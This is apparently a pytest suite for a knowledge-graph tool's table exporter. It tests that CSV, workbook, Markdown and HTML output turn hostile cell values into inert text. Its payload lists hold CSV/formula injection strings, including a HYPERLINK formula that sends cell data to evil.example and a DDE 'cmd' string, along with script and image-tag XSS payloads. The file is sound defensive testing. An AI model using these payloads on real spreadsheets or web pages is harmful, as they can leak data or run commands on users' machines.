"""Rows in every format: nothing is lost or changed where a format is exact, and nothing comes alive where one is for people."""

import csv
import io
import json
import os
import subprocess
import sys
import time
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pyoxigraph as ox
import pytest
from extras import lacking, needs
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from kg.ask import Answer
from kg.cli import run
from kg.errors import UsageError
from kg.namespaces import XSD
from kg.tables import FORMATS, Table, rows
from kg.tables.guard import guarded
from kg.tables.table import fitted, seemly
from kg.terms import Term, iri, text, typed

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
FORMULAS = [
    *(f"{sign}1+1" for sign in SIGNS),
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1',
    '"" =1+1',
    "\ufeff=1+1",
    "a;=1+1",
    'a; "=1+1',
    "a\n=1+1",
    "a\t@SUM(1)",
]
NASTY = [
    *FORMULAS,
    'He said "no", twice',
    "two\nlines",
    "two\r\nlines",
    "a|b \\| c \\",
    "<script>alert(1)</script>",
    "</table><img src=http://evil.example/x>",
    "![x](http://evil.example/x.png) [y](javascript:alert(1)) *z* `w` _v_",
    "&lt;b&gt; &amp;",
    "😀 👮🏽‍♀️",
    "Cafe\u0301 Zu\u0308rich",
    "\x00\x07\x1b[2J",
    "\u202etxt.exe",
    "_x0041_ is no A",
    "\ufffe\uffff",
    " blanks at both ends ",
    "",
    "word " * 9_000,
    "😀" * 20_000,
]

TAGS = {
    *("html", "head", "meta", "title", "style", "body", "main", "h1", "p", "code", "footer"),
    *("div", "table", "caption", "span", "thead", "tr", "th", "tbody", "td"),
}
"""The elements of a page of rows."""


WORKBOOKS = needs("openpyxl", "xlsxwriter")
HERE = [pytest.param(format, marks=WORKBOOKS if format == "xlsx" else ()) for format in FORMATS]


def opened(data: bytes) -> Any:
    """A workbook, read back."""
    import openpyxl

    return openpyxl.load_workbook(io.BytesIO(data))


def answer(values: list[str]) -> Answer:
    """An answer with a row for each value."""
    return Answer(
        ("words", "place"), tuple((text(value), typed(at, "integer")) for at, value in enumerate(values))
    )


class Page(HTMLParser):
    """What a page holds: its tags with their attributes, and the words of its cells."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.cells: list[str] = []
        self.within: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self.within.append(tag)
        if tag == "td":
            self.cells.append("")

    def handle_endtag(self, tag: str) -> None:
        while self.within and self.within.pop() != tag:
            pass

    def handle_data(self, data: str) -> None:
        if "td" in self.within:
            self.cells[-1] += data

    def named(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.tags if name == tag]


# --- The exact formats -----------------------------------------------------------------------------------


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=5))
@example(NASTY)
def test_csv_is_exact(values: list[str]) -> None:
    """Any reader of RFC 4180 gets the values back, sign by sign; rows end in CRLF, and there is no byte order mark."""
    data = rows(answer(values), "csv")
    back = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert back[0] == ["words", "place"]
    assert [row[0] for row in back[1:]] == values
    assert data.startswith(b"words,place\r\n") and data.endswith(b"\r\n")


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=5))
@example(NASTY)
def test_tsv_and_json_are_exact(values: list[str]) -> None:
    """TSV has a line a row whatever is in it, as terms of Turtle; JSON the values."""
    lines = rows(answer(values), "tsv").decode().split("\n")[1:-1]
    terms = [line.split("\t")[0] for line in lines]
    parsed = ox.parse("".join(f"<a:s> <a:p> {term} .\n" for term in terms), format=ox.RdfFormat.N_TRIPLES)
    assert [quad.object.value for quad in parsed if isinstance(quad.object, ox.Literal)] == values
    bindings = json.loads(rows(answer(values), "json"))["results"]["bindings"]
    assert [row["words"]["value"] for row in bindings] == values


def test_blank_nodes_are_marked_in_csv() -> None:
    """As the W3C has it."""
    assert b"_:b1" in rows(Answer(("x",), ((ox.BlankNode("b1"),),)), "csv")


# --- CSV for Excel ---------------------------------------------------------------------------------------


def begins_formula(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula: by its first sign behind blanks, quotes and unseen marks."""
    stripped = cell.lstrip(' \t\r\n\f\v\x1c\x1d\x1e\x1f\x85\xa0"\ufeff\u200b\u200c\u200d\u2060\u00ad')
    return stripped[:1] in tuple(SIGNS) and not stripped[1:].isdigit()


@pytest.mark.parametrize("value", FORMULAS)
def test_no_cell_for_excel_is_a_formula(value: str) -> None:
    """However it is hidden; and the words stay readable behind the apostrophe."""
    data = rows(answer([value]), "csv", for_excel=True).decode("utf-8-sig")
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(data, newline=""), delimiter=delimiter):
            assert not any(begins_formula(cell) for cell in row), (delimiter, row)
    assert seemly(value).replace("'", "") in data.replace('""', '"').replace("'", "")


@given(st.text("=+-@＝;,\"\t\r\n a1'|", max_size=12), st.text("=;\" \n'a", max_size=6))
def test_no_cell_for_excel_is_a_formula_however_columns_are_parted(first: str, second: str) -> None:
    """By commas, by semicolons or by tabs; what was made safe once is left as it is."""
    table = Table.made("T", ("x", "y"), [(first, second)])
    data = rows(table, "csv", for_excel=True).decode("utf-8-sig")
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(data, newline=""), delimiter=delimiter):
            assert not any(begins_formula(cell) for cell in row), (delimiter, row)
    assert guarded(guarded(first)) == guarded(first)


def test_csv_for_excel_keeps_numbers_and_plain_words() -> None:
    """A negative number is none; a byte order mark leads, rows end in CRLF; what is too long for a cell is cut and says so."""
    table = Table.made("T", ("number", "words"), [(-5, "well-led; good"), (-0.5, "w" * 40_000)])
    data = rows(table, "csv", for_excel=True)
    assert data.startswith(b"\xef\xbb\xbfnumber,words\r\n-5,well-led; good\r\n-0.5,")
    (_, (_, long)) = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    assert len(long) == 32_767 and long.endswith("[cut: 40000 characters in all]")


def test_making_cells_safe_takes_linear_time() -> None:
    """Long runs of blanks and separators are looked at once."""
    begun = time.process_time()
    for run_ in (' \n;"' * 250_000, "=" * 1_000_000, ";=" * 500_000, " " * 1_000_000):
        guarded(run_)
    assert time.process_time() - begun < 5


# --- Formats for people ----------------------------------------------------------------------------------


def shown(markdown: str) -> list[list[str]]:
    """The words of a Markdown table as a reader of Markdown shows them; anything but words and line breaks fails."""
    cells: list[list[str]] = []
    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown):
        if token.type == "tr_open":
            cells.append([])
        for child in token.children or ():
            assert child.type in ("text", "html_inline"), (child.type, child.content)
            assert child.type == "text" or child.content == "<br>", child.content
        if token.type == "inline":
            cells[-1].append(
                "".join("\n" if c.type == "html_inline" else c.content for c in token.children or ())
            )
    return cells


@given(st.lists(st.text("ab |\\`*_[]()<>&!#~$\n-=:\"'{}^/.1", max_size=14), min_size=1, max_size=3))
@example(NASTY)
def test_markdown_is_words_alone(values: list[str]) -> None:
    """No sign of Markdown or HTML in a cell means anything, no pipe ends it, no line break a row."""
    told = shown(rows(answer(values), "markdown").decode())
    assert told[0] == ["words", "place"]
    wanted = [[seemly(value).replace("\t", " ").strip(" "), str(at)] for at, value in enumerate(values)]
    assert [[cell.strip(" \n") for cell in row] for row in told[1:]] == [
        [cell.strip(" \n") for cell in row] for row in wanted
    ]


def test_markdown_aligns_numbers_and_shortens_names() -> None:
    """For a paper or a pull request."""
    force = iri("https://w3id.org/peel-kg/id/force/kent")
    lines = rows(Answer(("force", "rank"), ((force, typed(2, "integer")), (None, None))), "markdown").decode()
    assert lines == "| force | rank |\n| --- | ---: |\n| force/kent | 2 |\n|  |  |\n"


def test_html_is_a_whole_accessible_page() -> None:
    """Language, title, caption, scope of headings, a colour scheme for light and dark, and leave to load nothing."""
    table = Table.made("What & why?", ("words", "count"), [("a", 1)])
    source = rows(table, "html").decode()
    page = Page(source)
    assert source.startswith("<!DOCTYPE html>")
    assert page.named("html") == [{"lang": "en-GB"}]
    assert "<title>What &amp; why?</title>" in source and "<caption" in source
    assert [attributes["scope"] for attributes in page.named("th")] == ["col", "col"]
    assert {"name": "color-scheme", "content": "light dark"} in page.named("meta")
    assert "prefers-color-scheme: dark" in source
    (policy,) = [meta["content"] for meta in page.named("meta") if meta.get("http-equiv")]
    assert policy and policy.startswith("default-src 'none'; style-src 'sha256-")
    (region,) = [div for div in page.named("div") if div.get("role") == "region"]
    assert region["tabindex"] == "0" and region["aria-labelledby"] == page.named("caption")[0]["id"]


@pytest.mark.parametrize("value", NASTY)
def test_html_shows_words_and_runs_none(value: str) -> None:
    """Whatever is in a cell is text: no element, no attribute, no request comes of it."""
    page = Page(rows(Table.made(value[:99], (value[:9] or "x",), [(value,)]), "html").decode())
    assert {tag for tag, _ in page.tags} <= TAGS
    assert not any({"src", "href", "onclick"} & set(attributes) for _, attributes in page.tags)
    assert page.cells[0].split() == seemly(value).split()


@WORKBOOKS
def test_workbooks_hold_words_numbers_and_days() -> None:
    """Each as what it is: years and counts to sort and add, words as words, days as days, nothing as nothing."""
    terms: tuple[Term | None, ...] = (
        typed("2015", "gYear"), typed("-3", "integer"), typed("0.5", "decimal"), typed("true", "boolean"),
        typed("2016-02-18", "date"), typed("1066-10-14", "date"), typed("12345678901234567890", "integer"),
        typed("INF", "double"), typed("many", "integer"), text("007"), None,
    )  # fmt: skip
    names = tuple(f"c{at}" for at in range(len(terms)))
    page = opened(rows(Answer(names, (terms,)), "xlsx"))["Answer"]
    *values, nothing = [cell.value for cell in page[page.max_row]]
    assert values[:4] == [2015, -3, 0.5, True]
    assert values[4].date() == date(2016, 2, 18)
    assert values[5:] == ["1066-10-14", "12345678901234567890", "INF", "many", "007"]
    assert nothing is None


@WORKBOOKS
@pytest.mark.parametrize("value", [value for value in NASTY if value])
def test_workbooks_hold_text_as_text(value: str) -> None:
    """No formula, link or number comes of it, not even where somebody edits the cell; what a cell cannot hold is cut with a note."""
    book = opened(rows(answer([value]), "xlsx"))
    cell = book["Answer"].cell(book["Answer"].max_row, 1)
    assert cell.data_type == "s" and cell.hyperlink is None
    assert cell.value == fitted(seemly(value))
    assert cell.quotePrefix == begins_formula(str(cell.value))
    assert len(str(cell.value).encode("utf-16-le")) // 2 <= 32_767
    if value.startswith(("word", "😀😀")):
        assert str(cell.value).endswith(f"[cut: {len(value)} characters in all]")


@WORKBOOKS
@pytest.mark.parametrize("title", ["=1+1", "\x00\x1b[2J\ufffe", "<b>&", "long " * 9_000])
def test_whatever_a_question_is_called(title: str) -> None:
    """Its name is the title of the workbook and of the page, as plain words."""
    book = opened(rows(Table.made(title, ("x",), [("y",)]), "xlsx"))
    assert book["Answer"]["A1"].value == book["Cover"]["A1"].value == fitted(seemly(title))
    assert book["Answer"]["A1"].data_type == "s"
    assert book.properties.title == seemly(title)[:255]
    assert {tag for tag, _ in Page(rows(Table.made(title, ("x",), [("y",)]), "html").decode()).tags} <= TAGS


@WORKBOOKS
def test_columns_that_differ_only_in_case() -> None:
    """Excel takes them for one, and calls the file damaged; so they get a number."""
    page = opened(rows(Answer(("a", "A"), ((text("x"), text("y")),)), "xlsx"))["Answer"]
    (table,) = page.tables.values()
    assert table.column_names == ["a", "A (2)"]


@WORKBOOKS
@pytest.mark.parametrize("columns", [(), ("a",)])
def test_an_answer_without_rows(columns: tuple[str, ...]) -> None:
    """Every format has something to say."""
    for format in FORMATS:
        assert rows(Answer(columns, ()), format)
    page = opened(rows(Answer(columns, ()), "xlsx"))["Answer"]
    assert "No row answers" in str(page["A2"].value)


def test_unknown_formats_are_named() -> None:
    """With the known ones; and only CSV can be for Excel."""
    with pytest.raises(UsageError, match="known are csv, tsv, json, xlsx, markdown, html"):
        rows(answer(["x"]), "doc")
    with pytest.raises(UsageError, match="a kind of CSV"):
        rows(answer(["x"]), "html", for_excel=True)


@pytest.mark.parametrize("format", HERE)
def test_the_same_rows_give_the_same_bytes(format: str) -> None:
    """On another day, and with other hashes."""
    code = (
        "import sys; from kg.tables import Table, rows;"
        f"sys.stdout.buffer.write(rows(Table.made('T', ('a', 'b'), [('x', 1), ('=y', None)]), {format!r}))"
    )
    made = {
        subprocess.run(
            [sys.executable, "-c", code],
            env={**os.environ, "PYTHONHASHSEED": seed},
            capture_output=True,
            check=True,
        ).stdout
        for seed in ("1", "2")
    }
    assert len(made) == 1
    assert made == {rows(Table.made("T", ("a", "b"), [("x", 1), ("=y", None)]), format)}


# --- The command line ------------------------------------------------------------------------------------

STARTS: dict[str, bytes | tuple[bytes, ...]] = {
    "csv": b"", "tsv": b"?", "json": (b"{", b"["), "xlsx": b"PK", "markdown": b"| ", "html": b"<!DOCTYPE html>",
}  # fmt: skip


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A folder with the graph of a real report."""
    folder = tmp_path_factory.mktemp("tables") / "graph"
    report = Path(__file__).parent.parent / "data" / "reports" / "leicestershire-2014-effectiveness.txt"
    assert (
        run(["build", str(report), "-q", "-g", str(folder), "--year", "2014", "--pillar", "effectiveness"])
        == 0
    )
    return str(folder)


@pytest.mark.parametrize("format", HERE)
@pytest.mark.parametrize(
    "command",
    [
        ["query", "reports-and-dates"],
        ["query", "ASK { ?s a peel:Finding }"],
        ["query", "--list"],
        ["coverage", "leicestershire/2014/effectiveness"],
    ],
    ids=["query", "ask", "list", "coverage"],
)
def test_every_command_that_prints_rows_writes_them(
    command: list[str], format: str, built: str, tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    """To stdout and to a file, the same bytes."""
    command = [*command, "-g", built, "--format", format]
    assert run(command) == 0
    told = capfdbinary.readouterr().out
    assert told.startswith(STARTS[format])
    assert run([*command, "-o", str(tmp_path / "file")]) == 0
    assert (tmp_path / "file").read_bytes() == told
    assert capfdbinary.readouterr().out == b""


@pytest.mark.parametrize("format", HERE)
def test_figures_of_an_evaluation(
    format: str, tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    """As rows, too; beside a baseline the F1 of before."""
    gold = tmp_path / "gold"
    gold.mkdir()
    for suffix in ("txt", "json"):
        source = Path(__file__).parent / "gold" / f"leicestershire-2014-effectiveness.{suffix}"
        (gold / source.name).write_bytes(source.read_bytes())
    assert run(["evaluate", str(gold), "--format", format]) == 0
    told = capfdbinary.readouterr().out
    assert told.startswith(STARTS[format])
    if format == "json":
        (tmp_path / "before.json").write_bytes(told)
        assert (
            run(["evaluate", str(gold), "--format", "csv", "--baseline", str(tmp_path / "before.json")]) == 0
        )
        assert capfdbinary.readouterr().out.splitlines()[0].endswith(b",read,F1 before")


def test_the_name_of_a_file_tells_its_format(
    built: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Where --format does not; a name that tells none is refused with those that do."""
    for suffix, start in (
        (".csv", b"report,"),
        (".md", b"| report"),
        *([(".xlsx", b"PK")] * (not lacking("xlsxwriter"))),
        (".html", b"<!DOCTYPE"),
    ):
        assert run(["query", "reports-and-dates", "-g", built, "-o", str(tmp_path / f"file{suffix}")]) == 0
        assert (tmp_path / f"file{suffix}").read_bytes().startswith(start)
    assert run(["query", "partnership-graph", "-g", built, "-o", str(tmp_path / "file.ttl")]) == 0
    assert (tmp_path / "file.ttl").read_bytes().startswith(b"@base")
    assert (
        run(["coverage", "leicestershire/2014/effectiveness", "-g", built, "-o", str(tmp_path / "c.csv")])
        == 0
    )
    assert (tmp_path / "c.csv").read_bytes().startswith(b"line,fate,why,words,statements\r\n")
    capsys.readouterr()
    assert run(["query", "reports-and-dates", "-g", built, "-o", str(tmp_path / "file.doc")]) == 2
    assert ".csv, .tsv, .json, .xlsx, .md, .html, .ttl, or say --format" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (["--format", "table", "-o", "x.txt"], "is for the screen"),
        (["--format", "html", "--for-excel"], "a kind of CSV"),
        (["--format", "turtle"], "selects rows"),
        (["--format", "csv", "-o", "missing/x.csv"], "no folder missing"),
    ],
)
def test_what_does_not_go_together(
    options: list[str], message: str, built: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """One line, and nothing is written."""
    assert run(["query", "reports-and-dates", "-g", built, *options]) == 2
    err = capsys.readouterr().err
    assert message in err and err.count("\n") == 1


def test_a_question_of_ones_own_has_its_title(built: str, tmp_path: Path) -> None:
    """From the line of its header; parameters are told below it."""
    (tmp_path / "mine.rq").write_text(
        "# Question: Who is it?\nSELECT ?force { ?r peel:force ?force }", "utf-8"
    )
    page = tmp_path / "page.html"
    assert run(["query", str(tmp_path / "mine.rq"), "-g", built, "-o", str(page)]) == 0
    assert "<h1>Who is it?</h1>" in page.read_text("utf-8")
    assert run(["query", "reports-and-dates", "--param", "year=2014", "-g", built, "-o", str(page)]) == 0
    assert "<h1>Which reports are in the graph" in page.read_text("utf-8")
    assert "<p>year: 2014</p>" in page.read_text("utf-8")


def test_for_excel_alone_is_csv(built: str, capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    """With a byte order mark; without the option there is none."""
    assert run(["query", "reports-and-dates", "-g", built, "--for-excel"]) == 0
    marked = capfdbinary.readouterr().out
    assert run(["query", "reports-and-dates", "-g", built, "--format", "csv"]) == 0
    assert marked == b"\xef\xbb\xbf" + capfdbinary.readouterr().out


@pytest.mark.skipif(sys.platform == "win32", reason="no pseudo-terminals")
@pytest.mark.parametrize("command", [["query", "reports-and-dates"], ["export"]])
def test_a_workbook_is_nothing_for_a_terminal(command: list[str], built: str) -> None:
    """It is refused in one line, before any work; a page of HTML is text, and may be looked at."""
    import pty

    ours, terminal = pty.openpty()
    done = subprocess.run(
        [sys.executable, "-m", "kg", *command, "-g", built, "--format", "xlsx"],
        stdout=terminal, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    os.close(terminal)
    os.close(ours)
    assert done.returncode == 2
    assert (
        done.stderr == "kg: xlsx is nothing for a terminal; name a file with -o, or send it on with > or |\n"
    )


@pytest.mark.parametrize("command", [["query", "reports-and-dates"], ["export"]])
def test_without_its_library(
    command: list[str], built: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """One line says what to install."""
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    assert run([*command, "-g", built, "--format", "xlsx"]) == 2
    assert (
        capsys.readouterr().err == "kg: workbooks need the library XlsxWriter: pip install 'peel-kg[xlsx]'\n"
    )


def test_libraries_are_loaded_where_they_are_needed() -> None:
    """Exact formats need none of those for workbooks, frames and pages."""
    code = (
        "import sys, kg.cli; kg.cli.parser().format_help(); from kg.tables import Table, rows;"
        "t = Table.made('T', ('a',), [('x',)]); [rows(t, f) for f in ('csv', 'tsv', 'json', 'markdown')];"
        "print(sorted({m.split('.')[0] for m in sys.modules} & {'xlsxwriter', 'pandas', 'numpy', 'lxml', 'networkx'}))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


def test_the_command_line_offers_all_formats() -> None:
    """The list is written twice, since help comes without the library: both are the same."""
    told = subprocess.run(
        [sys.executable, "-m", "kg", "query", "--help"], capture_output=True, text=True, check=True
    )
    assert f"{{table,turtle,{','.join(FORMATS)}}}" in told.stdout
    assert "--for-excel" in told.stdout


def test_types_that_a_term_claims_wrongly_are_words() -> None:
    """Nothing fails, and nothing is guessed."""
    claims = [
        ("1_000", "integer"),
        ("1e9999", "double"),
        ("2015-02-30", "date"),
        ("yes", "boolean"),
        ("٣", "integer"),
    ]
    table = Table(("x",), tuple((typed(words, kind),) for words, kind in claims))
    assert [row[0] for row in table.cells] == [words for words, _ in claims]
    assert Table(("x",), ((ox.Literal("5", datatype=ox.NamedNode(XSD + "unsignedByte")),),)).cells == ((5,),)
